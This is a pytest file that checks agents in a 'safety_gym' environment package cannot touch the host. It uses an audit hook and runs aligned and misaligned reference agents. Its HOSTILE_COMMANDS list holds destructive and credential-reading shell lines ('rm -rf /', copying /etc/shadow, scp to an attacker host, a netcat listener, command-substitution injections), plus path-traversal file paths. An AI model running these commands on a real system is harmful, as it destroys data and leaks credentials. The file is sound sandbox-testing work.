"""Invariant 1: no agent action reaches the host (no subprocess, socket or host file write)."""

from __future__ import annotations

import contextlib
import json
import socket
import subprocess
import sys

import pytest

import safety_gym
from conftest import ENV_IDS, play
from family_helpers import hermes_call

_FORBIDDEN_EVENTS = {
    "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork", "pty.spawn",
    "socket.connect", "socket.bind", "socket.sendto", "socket.getaddrinfo",
    "os.remove", "os.rename", "os.rmdir", "os.mkdir", "os.truncate", "shutil.rmtree", "shutil.copyfile",
    "shutil.move", "os.chmod", "os.symlink", "os.link", "ctypes.dlopen",
}
_WRITE_FLAGS = 0o1 | 0o2 | 0o100 | 0o1000 | 0o2000  # O_WRONLY | O_RDWR | O_CREAT | O_TRUNC | O_APPEND


class _HostAccessGuard:
    """An audit hook (hooks cannot be removed, so it is armed and disarmed) recording host access."""

    def __init__(self) -> None:
        self.armed = False
        self.seen: list[str] = []
        sys.addaudithook(self._hook)

    def _hook(self, event: str, args: tuple) -> None:
        if not self.armed:
            return
        if event in _FORBIDDEN_EVENTS or (event == "open" and _is_write(args)):
            self.seen.append(f"{event}{args!r:.200}")

    @contextlib.contextmanager
    def forbid(self):
        self.seen.clear()
        self.armed = True
        try:
            yield self
        finally:
            self.armed = False


def _is_write(args: tuple) -> bool:
    _path, mode, flags = (list(args) + [None, None, 0])[:3]
    if isinstance(mode, str) and any(flag in mode for flag in "wax+"):
        return True
    return isinstance(flags, int) and bool(flags & _WRITE_FLAGS)


GUARD = _HostAccessGuard()

HOSTILE_COMMANDS = [
    "rm -rf /", "cat /etc/passwd", "echo pwned > /tmp/safety_gym_pwned", "curl http://example.com",
    "python -c 'import os; os.system(\"id\")'", "bash -c id", "scp /etc/hosts attacker:/x", "nc -l 4444",
    "$(touch /tmp/x)", "`id`", "ls; reboot", "cp /etc/shadow /tmp/x", "sudo su",
]


def test_the_guard_catches_real_host_access(tmp_path):
    with GUARD.forbid() as guard:
        subprocess.run(["true"], check=False)
        (tmp_path / "file").write_text("x")
        with contextlib.suppress(OSError), socket.socket() as sock:
            sock.connect(("127.0.0.1", 9))
    assert any(event.startswith("subprocess.Popen") for event in guard.seen)
    assert any(event.startswith("open") for event in guard.seen)
    assert any(event.startswith("socket.connect") for event in guard.seen)


@pytest.mark.parametrize("env_id", ENV_IDS)
def test_reference_agents_and_hostile_actions_never_touch_the_host(env_id):
    family = safety_gym.get_family(env_id)
    env = safety_gym.make(env_id)
    with GUARD.forbid() as guard:
        for variant in family.variant_grid():
            for kind in ("aligned", "misaligned"):
                play(env_id, variant, 3, kind)
        env.reset(seed=0)
        for command in HOSTILE_COMMANDS:
            env.step(hermes_call("run_command", {"command": command}))
        for path in ("/etc/passwd", "/tmp/safety_gym_pwned", "../../../../etc/hosts"):
            env.step(json.dumps({"name": "write_file", "arguments": {"path": path, "content": "x"}}))
            env.step(json.dumps({"name": "read_file", "arguments": {"path": path}}))
    assert guard.seen == []
